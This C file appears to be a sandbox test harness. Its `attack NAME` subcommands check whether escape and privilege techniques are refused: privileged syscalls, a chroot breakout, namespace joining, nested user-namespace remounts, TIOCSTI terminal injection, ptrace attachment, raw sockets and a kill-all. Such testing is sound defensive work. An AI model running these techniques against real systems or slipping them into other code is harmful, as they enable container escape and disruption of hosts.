/* Attempts one attack that a shell can't: `attack NAME [ARGUMENT…]`. It says what the kernel
 * answered, and ends with 0 if the attack worked, 1 if it was refused, 2 if it can't be tried.
 * What works here changes nothing that matters: arguments are invalid where a call would. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <linux/rtnetlink.h>
#include <net/ethernet.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

static int said(const char *what, long result) {
    if (result < 0) {
        printf("%s: %s\n", what, strerror(errno));
        return 1;
    }
    printf("%s: worked\n", what);
    return 0;
}

/* A call whose arguments are wrong: what is refused to everybody is EPERM or EACCES or ENOSYS,
 * any other error means that the kernel has looked at them. */
static int reaches(const char *what, long result) {
    int number = errno;
    said(what, result);
    return result < 0 && (number == EPERM || number == EACCES || number == ENOSYS);
}

static int all(int worked) { return worked ? 0 : 1; }

static int syscalls(char **names) {
    int worked = 0;
    char buffer[64] = "";
    struct iovec own = {buffer, sizeof buffer};
    struct timespec now;
    struct timeval now_too;
    for (; *names; names++) {
        const char *n = *names;
        long r;
        errno = 0;
        if (!strcmp(n, "add_key")) r = syscall(SYS_add_key, "user", "attack", "x", 1L, -3L);
        else if (!strcmp(n, "keyctl")) r = syscall(SYS_keyctl, 0, -3L, 1L); /* the session keyring */
        else if (!strcmp(n, "request_key")) r = syscall(SYS_request_key, "user", "attack", NULL, 0L);
        else if (!strcmp(n, "init_module")) r = syscall(SYS_init_module, buffer, 1L, "");
        else if (!strcmp(n, "finit_module")) r = syscall(SYS_finit_module, -1L, "", 0L);
        else if (!strcmp(n, "delete_module")) r = syscall(SYS_delete_module, "no_such_module", 0L);
        else if (!strcmp(n, "kexec_load")) r = syscall(SYS_kexec_load, 0L, 99L, NULL, 0L);
        else if (!strcmp(n, "reboot")) r = syscall(SYS_reboot, 1L, 1L, 1L, NULL);
        else if (!strcmp(n, "swapon")) r = syscall(SYS_swapon, "/no/such", 0L);
        else if (!strcmp(n, "swapoff")) r = syscall(SYS_swapoff, "/no/such");
        else if (!strcmp(n, "acct")) r = syscall(SYS_acct, "/no/such");
        else if (!strcmp(n, "settimeofday")) {
            gettimeofday(&now_too, NULL);
            r = syscall(SYS_settimeofday, &now_too, NULL);
        }
        else if (!strcmp(n, "clock_settime")) {
            clock_gettime(CLOCK_REALTIME, &now);
            r = syscall(SYS_clock_settime, 0L, &now);
        }
        else if (!strcmp(n, "syslog")) r = syscall(SYS_syslog, 3L, buffer, 64L);
        else if (!strcmp(n, "bpf")) r = syscall(SYS_bpf, 9999L, NULL, 0L);
        else if (!strcmp(n, "perf_event_open")) r = syscall(SYS_perf_event_open, NULL, 0L, -1L, -1L, 0L);
        else if (!strcmp(n, "userfaultfd")) r = syscall(SYS_userfaultfd, 0L);
        else if (!strcmp(n, "io_uring_setup")) r = syscall(SYS_io_uring_setup, 0L, NULL);
        else if (!strcmp(n, "quotactl")) r = syscall(SYS_quotactl, 0L, "/no/such", 0L, NULL);
        else if (!strcmp(n, "name_to_handle_at")) r = syscall(SYS_name_to_handle_at, -1L, "", NULL, NULL, 0L);
        else if (!strcmp(n, "process_vm_readv")) r = syscall(SYS_process_vm_readv, 1L, &own, 1L, &own, 1L, 0L);
#ifdef SYS_iopl
        else if (!strcmp(n, "iopl")) r = syscall(SYS_iopl, 3L);
        else if (!strcmp(n, "ioperm")) r = syscall(SYS_ioperm, 0x80L, 1L, 1L);
#endif
        else return 2;
        if (!reaches(n, r)) worked = 1;
    }
    return all(worked);
}

/* The root of a file system by its handle, whatever is mounted or forbidden above it. */
static int open_by_handle(char **mounts) {
    struct {
        struct file_handle head;
        unsigned number[2];
    } handle = {{8, 1}, {2, 0}};
    for (int worked = 0;; mounts++) {
        if (!*mounts) return all(worked);
        int mount = open(*mounts, O_RDONLY);
        long opened = syscall(SYS_open_by_handle_at, mount, &handle, O_RDONLY);
        /* A wrong handle is one that was looked at. */
        if (!reaches(*mounts, opened)) worked = 1;
    }
}

/* A file by way of each directory that this process or another one has open. */
static int leaked(const char *path) {
    int worked = 0, tried = 0;
    char up[4096];
    snprintf(up, sizeof up, "../../../../../../../../../../../../%s", path + 1);
    for (int fd = 0; fd < 256; fd++) {
        struct stat status;
        if (fstat(fd, &status) || !S_ISDIR(status.st_mode)) continue;
        tried++;
        if (openat(fd, up, O_RDONLY) >= 0) worked = 1;
    }
    for (int pid = 1; pid < 400; pid++) {
        const char *links[] = {"root", "cwd", "exe"};
        char name[4200];
        for (int i = 0; i < 2; i++, tried++) {
            snprintf(name, sizeof name, "/proc/%d/%s/%s", pid, links[i], up);
            if (open(name, O_RDONLY) >= 0) { printf("by %s\n", name); worked = 1; }
        }
        for (int fd = 0; fd < 40; fd++, tried++) {
            snprintf(name, sizeof name, "/proc/%d/fd/%d/%s", pid, fd, up);
            if (open(name, O_RDONLY) >= 0) { printf("by %s\n", name); worked = 1; }
        }
    }
    printf("%d ways\n", tried);
    return all(worked);
}

/* The way out of a chroot(2), then a file of the host. */
static int chroot_escape(const char *path) {
    int here = open("/", O_RDONLY);
    mkdir("/jail", 0700);
    if (chroot("/jail")) return said("chroot", -1);
    fchdir(here);
    for (int i = 0; i < 64; i++) chdir("..");
    int out = said("chroot .", chroot("."));
    if (out) return out;
    return said(path, open(path, O_RDONLY));
}

static int join(const char *process) {
    const char *kinds[] = {"mnt", "pid", "net", "ipc", "uts", "user", "cgroup"};
    int worked = 0;
    for (int i = 0; i < 7; i++) {
        char name[256], own[256], its[256];
        snprintf(name, sizeof name, "/proc/%s/ns/%s", process, kinds[i]);
        ssize_t length = readlink(name, its, sizeof its - 1);
        if (length < 0) { said(name, -1); continue; }
        its[length] = 0;
        char self[64];
        snprintf(self, sizeof self, "/proc/self/ns/%s", kinds[i]);
        length = readlink(self, own, sizeof own - 1);
        own[length < 0 ? 0 : length] = 0;
        if (!strcmp(own, its)) { printf("%s: the same\n", name); continue; }
        int fd = open(name, O_RDONLY);
        if (!said(name, fd < 0 ? -1 : setns(fd, 0))) worked = 1;
    }
    return all(worked);
}

static int map(const char *name, const char *text) {
    int fd = open(name, O_WRONLY);
    return fd < 0 || write(fd, text, strlen(text)) < 0;
}

/* A user namespace inside, and in it mounts that change what is read-only outside. */
static int nested(char **paths) {
    int worked = 0;
    if (said("unshare", unshare(CLONE_NEWUSER | CLONE_NEWNS))) return 1;
    map("/proc/self/setgroups", "deny");
    map("/proc/self/uid_map", "0 0 1");
    map("/proc/self/gid_map", "0 0 1");
    for (; *paths; paths++) {
        char file[4096];
        snprintf(file, sizeof file, "%s/attack-nested", *paths);
        said("remount", mount(NULL, *paths, NULL, MS_REMOUNT | MS_BIND, NULL));
        if (!said(file, open(file, O_CREAT | O_WRONLY, 0600))) worked = 1;
        said("umount", umount2(*paths, MNT_DETACH));
        if (!said(file, open(file, O_CREAT | O_WRONLY, 0600))) worked = 1;
    }
    int fresh = mount("proc", "/proc", "proc", 0, NULL);
    said("a fresh proc", fresh);
    if (!fresh && !said("core_pattern", open("/proc/sys/kernel/core_pattern", O_WRONLY))) worked = 1;
    return all(worked);
}

/* Types a line into the terminal that the build was started from. */
static int type(void) {
    int worked = 0;
    const char *line = "echo typed >typed-by-an-attack\n";
    const char *names[] = {"/dev/tty", "/dev/console", "/proc/1/fd/0", "/proc/1/fd/1", "/proc/1/fd/2"};
    for (int i = 0; i < 8; i++) {
        int fd = i < 3 ? i : open(names[i - 3], O_RDWR | O_NONBLOCK);
        long result = fd < 0 ? -1 : 0;
        for (const char *c = line; !result && *c; c++) result = ioctl(fd, TIOCSTI, c);
        if (!said(i < 3 ? "a standard stream" : names[i - 3], result)) worked = 1;
    }
    return all(worked);
}

static int attach(void) {
    int worked = 0, tried = 0;
    struct stat own, its;
    stat("/proc/self/ns/user", &own);
    for (int pid = 1; pid < 400; pid++) {
        char name[64];
        snprintf(name, sizeof name, "/proc/%d/ns/user", pid);
        int hidden = stat(name, &its);
        /* What runs in the same namespaces is the root's own. */
        if (pid == getpid() || (!hidden && own.st_ino == its.st_ino && pid != 1)) continue;
        tried++;
        if (!ptrace(PTRACE_SEIZE, pid, 0, 0)) {
            printf("traced %d\n", pid);
            worked = 1;
            ptrace(PTRACE_DETACH, pid, 0, 0);
        } else if (!hidden) said(name, -1);
    }
    printf("%d processes\n", tried);
    return all(worked);
}

static int network(void) {
    int worked = 0;
    struct sockaddr_in low = {.sin_family = AF_INET, .sin_port = htons(997)};
    if (!said("a packet socket", socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)))) worked = 1;
    if (!said("a raw socket", socket(AF_INET, SOCK_RAW, IPPROTO_ICMP))) worked = 1;
    int stream = socket(AF_INET, SOCK_STREAM, 0);
    if (!said("a port of the host's services", bind(stream, (void *)&low, sizeof low))) worked = 1;
    struct {
        struct nlmsghdr head;
        struct ifinfomsg link;
    } ask = {{sizeof ask, RTM_SETLINK, NLM_F_REQUEST | NLM_F_ACK, 1, 0}, {.ifi_index = 1, .ifi_flags = 1, .ifi_change = 1}};
    struct {
        struct nlmsghdr head;
        struct nlmsgerr error;
    } answer;
    int route = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
    send(route, &ask, sizeof ask, 0);
    if (recv(route, &answer, sizeof answer, 0) >= 0) errno = -answer.error.error;
    if (!said("lo", errno ? -1 : 0)) worked = 1;
    return all(worked);
}

static int limits(void) {
    int worked = 0;
    for (int which = 0; which < RLIM_NLIMITS; which++) {
        struct rlimit limit;
        if (getrlimit(which, &limit) || limit.rlim_max == RLIM_INFINITY) continue;
        limit.rlim_max++;
        if (!said("a hard limit", setrlimit(which, &limit))) worked = 1;
    }
    return all(worked);
}

static int abstract_socket(const char *name) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    strcpy(address.sun_path + 1, name);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    socklen_t length = offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name);
    return said("an abstract socket", connect(fd, (void *)&address, length));
}

static int tcp(const char *port) {
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(atoi(port)), .sin_addr = {htonl(INADDR_LOOPBACK)}};
    return said("the host's loopback", connect(socket(AF_INET, SOCK_STREAM, 0), (void *)&address, sizeof address));
}

/* Ends everything, but not the host if there is no other PID namespace. */
static int kill_all(const char *hosts) {
    char own[64] = "";
    readlink("/proc/self/ns/pid", own, sizeof own - 1);
    if (!strcmp(own, hosts)) { printf("it is the host's PID namespace\n"); return 0; }
    signal(SIGTERM, SIG_IGN);
    kill(-1, SIGKILL);
    printf("killed\n");
    return 1;
}

static int overlay_marks(const char *file) {
    int worked = 0;
    const char *names[] = {"trusted.overlay.redirect", "trusted.overlay.opaque", "trusted.overlay.metacopy"};
    for (int i = 0; i < 3; i++)
        if (!said(names[i], setxattr(file, names[i], "/etc", 4, 0))) worked = 1;
    return all(worked);
}

int main(int count, char **words) {
    setvbuf(stdout, NULL, _IONBF, 0);
    if (count < 2) return 2;
    const char *name = words[1], *first = count > 2 ? words[2] : "";
    char **rest = words + 2;
    if (!strcmp(name, "syscalls")) return syscalls(rest);
    if (!strcmp(name, "open-by-handle")) return open_by_handle(rest);
    if (!strcmp(name, "leaked")) return leaked(first);
    if (!strcmp(name, "chroot")) return chroot_escape(first);
    if (!strcmp(name, "join")) return join(first);
    if (!strcmp(name, "nested")) return nested(rest);
    if (!strcmp(name, "type")) return type();
    if (!strcmp(name, "attach")) return attach();
    if (!strcmp(name, "network")) return network();
    if (!strcmp(name, "limits")) return limits();
    if (!strcmp(name, "abstract-socket")) return abstract_socket(first);
    if (!strcmp(name, "tcp")) return tcp(first);
    if (!strcmp(name, "kill-all")) return kill_all(first);
    if (!strcmp(name, "overlay-marks")) return overlay_marks(first);
    return 2;
}
